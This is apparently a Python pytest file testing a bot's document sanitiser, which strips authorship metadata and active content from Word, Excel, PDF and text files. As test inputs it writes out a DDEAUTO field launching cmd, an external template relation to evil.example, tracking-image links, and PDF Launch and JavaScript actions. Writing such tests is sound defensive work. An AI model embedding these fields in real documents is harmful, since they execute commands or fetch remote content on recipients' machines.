"""Documents: what is to be read stays, who made it and what acts by itself goes."""

from __future__ import annotations

import asyncio
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.shared import Inches
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import FreeText, Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from bot.media import bare
from bot.media.cleaning import Clean, Unfit, clean
from tests.media.files import photo, tell_tale_exif

OFFICE = "application/vnd.openxmlformats-officedocument."


def cleaned(raw: bytes) -> Clean:
    return asyncio.run(clean("document", raw))


def refused(raw: bytes) -> str:
    with pytest.raises(Unfit) as caught:
        cleaned(raw)
    return str(caught.value)


def inside(raw: bytes) -> bytes:
    """All that can be found in it by unpacking."""
    with zipfile.ZipFile(io.BytesIO(raw)) as parts:
        return b"\n".join(name.encode() + b"\n" + parts.read(name) for name in parts.namelist())


def changed(raw: bytes, **parts: tuple[str, str, str]) -> bytes:
    """With (part, what, instead of what) exchanged in it."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            for part, was, becomes in parts.values():
                if part == name:
                    assert was.encode() in content
                    content = content.replace(was.encode(), becomes.encode(), 1)
            new.writestr(name, content)
    return target.getvalue()


# Word ----------------------------------------------------------------------------------------


def word(image: bytes | None = None) -> bytes:
    made: Any = Document()
    paragraph = made.add_paragraph("ສະບາຍດີ: the price of silk")
    made.add_comment(paragraph.runs, text="Is that so?", author="TELLTALE", initials="TELLTALE")
    made.core_properties.author = made.core_properties.last_modified_by = "TELLTALE"
    if image is not None:
        made.add_picture(io.BytesIO(image), width=Inches(1))
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def test_a_word_file_is_read_as_before() -> None:
    found = cleaned(word(photo(exif=tell_tale_exif())))
    assert found.mime == f"{OFFICE}wordprocessingml.document"
    read: Any = Document(io.BytesIO(found.content))
    assert read.paragraphs[0].text == "ສະບາຍດີ: the price of silk"
    assert [each.text for each in read.comments] == ["Is that so?"]
    assert len(read.inline_shapes) == 1


def test_a_word_file_does_not_tell_who_wrote_it() -> None:
    raw = word(photo(exif=tell_tale_exif()))
    assert inside(raw).count(b"TELLTALE") > 4
    found = inside(cleaned(raw).content)
    assert b"TELLTALE" not in found and b"docProps" not in found and b"rsid" not in found


def test_changes_that_were_tracked_lose_their_author() -> None:
    inserted = '<w:ins w:id="1" w:author="TELLTALE" w:date="2026-01-02T03:04:05Z"/><w:sectPr'
    raw = changed(word(), document=("word/document.xml", "<w:sectPr", inserted))
    found = inside(cleaned(raw).content)
    assert b"<w:ins " in found and b"TELLTALE" not in found and b"2026-01-02" not in found


@pytest.mark.parametrize(
    "relation",
    [
        '<Relationship Id="rX" Type="http://x/relationships/image" '
        'Target="http://tracker.example/a.png" TargetMode="External"/>',
        '<Relationship Id="rX" Type="http://x/relationships/oleObject" '
        'Target="file:///C:/a" TargetMode="External"/>',
    ],
)
def test_a_word_file_that_fetches_is_unfit(relation: str) -> None:
    rels = "word/_rels/document.xml.rels"
    close = "</Relationships>"
    assert refused(changed(word(), rels=(rels, close, relation + close))) == "unfit"


def test_a_template_of_somebody_elses_is_forgotten() -> None:
    relation = (
        '<Relationship Id="rX" Type="http://x/relationships/attachedTemplate" '
        'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    rels = "word/_rels/document.xml.rels"
    found = cleaned(changed(word(), rels=(rels, "</Relationships>", relation)))
    assert b"evil.example" not in inside(found.content)


def test_a_link_is_left_if_it_leads_to_the_web() -> None:
    links = "".join(
        f'<Relationship Id="rX{n}" Type="http://x/relationships/hyperlink" Target="{target}" '
        f'TargetMode="External"/>'
        for n, target in enumerate(("https://example.org/silk", "file:///C:/Users/TELLTALE/a"))
    )
    rels, close = "word/_rels/document.xml.rels", "</Relationships>"
    found = inside(cleaned(changed(word(), rels=(rels, close, links + close))).content)
    assert b"https://example.org/silk" in found and b"TELLTALE" not in found


def test_a_field_that_runs_something_is_unfit() -> None:
    field = '<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd "/k" </w:instrText></w:r></w:p><w:sectPr'
    raw = changed(word(), document=("word/document.xml", "<w:sectPr", field))
    assert refused(raw) == "unfit"


def test_where_a_picture_lay_on_its_makers_machine_is_not_told() -> None:
    place = 'descr="C:\\Users\\TELLTALE\\looms.jpg" name='
    raw = changed(word(photo()), document=("word/document.xml", "name=", place))
    assert b"TELLTALE" not in inside(cleaned(raw).content)


# Excel ---------------------------------------------------------------------------------------


def excel() -> bytes:
    book = Workbook()
    sheet: Any = book.active
    sheet.append(["ລາຄາ", 12])
    sheet["A1"].comment = Comment("Is that so?", "TELLTALE")
    book.properties.creator = book.properties.lastModifiedBy = "TELLTALE"
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def test_an_excel_file_is_read_as_before_and_tells_nobodys_name() -> None:
    raw = excel()
    assert b"TELLTALE" in inside(raw)
    found = cleaned(raw)
    assert found.mime == f"{OFFICE}spreadsheetml.sheet"
    sheet: Any = load_workbook(io.BytesIO(found.content)).active
    assert [each.value for each in sheet[1]] == ["ລາຄາ", 12]
    assert sheet["A1"].comment.text == "Is that so?"
    assert b"TELLTALE" not in inside(found.content)


def test_a_sheet_that_asks_a_server_is_unfit() -> None:
    target = io.BytesIO(excel())
    with zipfile.ZipFile(target, "a") as book:
        book.writestr("xl/connections.xml", '<connections connection="User ID=TELLTALE"/>')
    assert refused(target.getvalue()) == "unfit"


def test_macros_are_unfit() -> None:
    main = f"{OFFICE}spreadsheetml.sheet.main+xml"
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    assert refused(changed(excel(), types=("[Content_Types].xml", main, macro))) == "unfit"


# PDF -----------------------------------------------------------------------------------------


def pdf(tmp_path: Path, password: str | None = None) -> bytes:
    made = PdfWriter()
    page = made.add_blank_page(200, 200)
    made.add_metadata({"/Author": "TELLTALE", "/Title": "TELLTALE"})
    made.add_open_action(JavaScript("app.alert('TELLTALE')"))
    made.add_attachment("TELLTALE.txt", b"TELLTALE")
    made.add_annotation(0, FreeText(text="A note", rect=(1, 1, 90, 30)))
    made.add_annotation(0, Link(rect=(1, 1, 20, 20), url="https://example.org/silk"))
    made.add_annotation(0, Link(rect=(1, 1, 20, 20), url="file:///C:/TELLTALE"))
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("TELLTALE")}
    )
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): made._add_object(launch)})
    note = page["/Annots"][0].get_object()  # type: ignore[index]
    note[NameObject("/T")] = TextStringObject("TELLTALE")
    note[NameObject("/A")] = made._add_object(launch)
    page[NameObject("/PieceInfo")] = ArrayObject([TextStringObject("TELLTALE")])
    if password is not None:
        made.encrypt(password)
    target = io.BytesIO()
    made.write(target)
    return target.getvalue()


def test_a_pdf_is_read_as_before_and_tells_nothing(tmp_path: Path) -> None:
    raw = pdf(tmp_path)
    assert raw.count(b"TELLTALE") > 5
    found = cleaned(raw)
    assert found.mime == "application/pdf"
    assert b"TELLTALE" not in found.content
    for gone in (b"/JavaScript", b"/Launch", b"/OpenAction", b"/EmbeddedFile", b"/Metadata"):
        assert gone not in found.content
    read = PdfReader(io.BytesIO(found.content))
    notes = [each.get_object() for each in read.pages[0]["/Annots"]]  # type: ignore[attr-defined]
    assert notes[0]["/Contents"] == "A note"
    assert notes[1]["/A"]["/URI"] == "https://example.org/silk"


def test_a_photo_in_a_pdf_does_not_tell_where_it_was_taken() -> None:
    made, image = PdfWriter(), photo(exif=tell_tale_exif())
    page = made.add_blank_page(200, 200)
    body = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Filter"): NameObject("/DCTDecode"),
        }
    )
    stream = _stream(body, image)
    resources = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/a"): made._add_object(stream)})}
    )
    page[NameObject("/Resources")] = resources
    target = io.BytesIO()
    made.write(target)
    assert b"TELLTALE" in target.getvalue()
    found = cleaned(target.getvalue()).content
    assert b"TELLTALE" not in found and b"JFIF" in found


def test_what_a_phone_hangs_on_behind_a_picture_goes() -> None:
    """A film, or a whole photo with a place of its own; progressive ones have several scans."""
    for progressive in (False, True):
        bare_one = photo(progressive=progressive)
        apart = b"\xff\xe2\x00\x10MPF\0TELLTALE\0\0"
        raw = bare_one[:2] + apart + bare_one[2:] + photo(exif=tell_tale_exif())
        assert bare.strip(raw) == bare_one
        assert bare.strip(raw[: len(bare_one) // 2]).endswith(b"\xff\xd9")  # it was cut off


def _stream(body: DictionaryObject, content: bytes) -> Any:
    found = StreamObject()
    found.update(body)
    found._data = content
    return found


def test_a_pdf_that_takes_a_password_is_unfit(tmp_path: Path) -> None:
    assert refused(pdf(tmp_path, "secret")) == "unfit"


# Text ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("code", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_text_becomes_utf8(code: str) -> None:
    found = cleaned("ຊື່,ລາຄາ\nຜ້າໄໝ,12\n".encode(code))
    assert (found.mime, found.content.decode()) == ("text/plain", "ຊື່,ລາຄາ\nຜ້າໄໝ,12\n")


@pytest.mark.parametrize("raw", [b"\xff\xfe\x00", b"a\x00b", b"\x1b[2Jhello", b"  \n", b"\x80abc"])
def test_what_is_no_text_is_unfit(raw: bytes) -> None:
    assert refused(raw) == "unfit"
